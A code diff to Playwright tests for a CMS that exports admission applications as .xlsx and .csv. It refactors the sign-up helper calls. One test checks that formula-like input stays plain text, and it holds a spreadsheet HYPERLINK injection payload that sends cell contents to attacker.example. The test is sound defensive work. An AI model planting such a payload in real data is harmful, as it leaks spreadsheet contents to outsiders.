@@ -1,15 +1,13 @@
 import { expect, test } from '@playwright/test'
 import ExcelJS from 'exceljs'
 import { DEMO_STAFF } from '../../../apps/cms/src/seed/accounts'
-import { CMS_URL, data, idCard, signUpChoice, staffLogin } from '../../lib/api'
+import { CMS_URL, data, idCard, signUpAs, staffLogin } from '../../lib/api'
 
 /** Admissions exports applications as .xlsx and .csv, filtered; other roles cannot. */
 test('admissions exports applications as .xlsx and .csv; an editor cannot', async ({ request }) => {
   const admissions = DEMO_STAFF.find((s) => s.roles.includes('admissions'))!
   const editor = DEMO_STAFF.find((s) => s.roles.includes('editor'))!
-  const choice = await signUpChoice(request, 'elderly')
-  const added = await data(request, 'enrolling.Enroll/add', {
-    ...choice,
+  const added = await signUpAs(request, 'elderly', {
     name: '导出测试',
     gender: 'female',
     id_card: idCard(Date.now() % 991, '19580303'),
@@ -50,10 +48,8 @@ test('admissions exports applications as .xlsx and .csv; an editor cannot', asyn
 
 test('free text that looks like a formula stays text in both formats', async ({ request }) => {
   const admissions = DEMO_STAFF.find((s) => s.roles.includes('admissions'))!
-  const choice = await signUpChoice(request, 'elderly')
   const formula = '=HYPERLINK("http://attacker.example/?x="&A2,"点击查看")'
-  const added = await data(request, 'enrolling.Enroll/add', {
-    ...choice,
+  const added = await signUpAs(request, 'elderly', {
     name: '公式测试',
     gender: 'male',
     id_card: idCard((Date.now() + 7) % 991, '19560404'),
